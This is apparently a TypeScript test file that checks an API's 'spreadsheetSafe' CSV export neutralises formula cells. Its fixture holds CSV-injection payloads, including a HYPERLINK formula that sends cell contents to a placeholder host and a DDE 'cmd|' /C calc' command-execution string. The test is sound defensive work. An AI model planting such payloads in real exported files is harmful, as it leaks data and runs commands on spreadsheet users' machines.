/**
 * GET /api/jobs/:id/result?format=csv&spreadsheetSafe=true: a result whose text cells would run
 * as formulas when the CSV is opened in a spreadsheet (OWASP CSV injection: = + - @ tab CR) gets
 * a ' in front of each, its header too; numbers, and text that is exactly a number, stay as they
 * are. Without the parameter the bytes are the result's own. A real job on a real server; the
 * CSV read back with @fast-csv/parse.
 */
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { beforeAll, expect, test } from 'vitest';
import { fastCsvRecords } from '../helpers/fastcsv.ts';
import { startTestServer, TASKS_DIR, type TestServer, waitForJob } from '../helpers/server.ts';

let t: TestServer;

beforeAll(async () => {
  t = await startTestServer({ tasksDir: TASKS_DIR });
  writeFileSync(
    join(t.data, 'evil.csv'),
    [
      '@who,amount',
      '"=HYPERLINK(""http://x.example/?""&A1,""click"")",1',
      '+1+2,2',
      "-2+3+cmd|' /C calc'!A0,3",
      '@SUM(A1:A9),4',
      '\tlead,5',
      '"\rcr",6',
      'plain,-7',
      '-5,8',
      '=1+1,-9.5',
    ].join('\n') + '\n',
  );
});

test('spreadsheetSafe=true neutralises formula cells and the header; numbers stay; without it the bytes are as stored', {
  timeout: 60_000,
}, async () => {
  const { body: job } = await t.json<{ id: string }>('POST', '/api/jobs', {
    spec: {
      input: 'evil.csv',
      aggregate: { groupBy: ['@who'], measures: { total: { kind: 'sum', column: 'amount' } } },
    },
  });
  await waitForJob(t, job.id, ['succeeded']);
  const get = async (query: string) => {
    const response = await t.call(`/api/jobs/${job.id}/result?${query}`);
    return { status: response.status, text: await response.text() };
  };

  const plain = await get('format=csv');
  const safe = await get('format=csv&spreadsheetSafe=true');
  expect(safe.status).toBe(200);
  const byKey = (records: string[][]) => new Map(records.slice(1).map((r) => [r[0]!, r[1]!]));
  const plainRows = await fastCsvRecords(plain.text);
  const safeRows = await fastCsvRecords(safe.text);
  expect(plainRows[0]).toEqual(['@who', 'total']);
  expect(safeRows[0]).toEqual(["'@who", 'total']);
  expect(byKey(safeRows)).toEqual(
    new Map([
      ['\'=HYPERLINK("http://x.example/?"&A1,"click")', '1'],
      ["'+1+2", '2'],
      ["'-2+3+cmd|' /C calc'!A0", '3'],
      ["'@SUM(A1:A9)", '4'],
      ["'\tlead", '5'],
      ["'\rcr", '6'],
      ['plain', '-7'],
      ['-5', '8'],
      ["'=1+1", '-9.5'],
    ]),
  );
  // Without the parameter: the values as they are, and nothing else differs.
  expect([...byKey(plainRows).keys()]).toEqual(
    [...byKey(safeRows).keys()].map((k) => (k.startsWith("'") ? k.slice(1) : k)),
  );
  expect((await get('format=json&spreadsheetSafe=true')).status).toBe(400);
  expect((await get('format=csv&spreadsheetSafe=maybe')).status).toBe(400);
});

test("a transform's output is sent as written: spreadsheetSafe is refused for it (400)", {
  timeout: 60_000,
}, async () => {
  const { body: job } = await t.json<{ id: string }>('POST', '/api/jobs', {
    spec: { input: 'evil.csv', transform: 'select', params: { columns: ['@who'] }, output: { path: 'out.csv' } },
  });
  await waitForJob(t, job.id, ['succeeded']);
  const r = await t.json<{ error: { field: string } }>(
    'GET',
    `/api/jobs/${job.id}/result?format=csv&spreadsheetSafe=true`,
  );
  expect(r).toMatchObject({ status: 400, body: { error: { field: 'spreadsheetSafe' } } });
  expect((await t.call(`/api/jobs/${job.id}/result?format=csv`)).status).toBe(200);
});
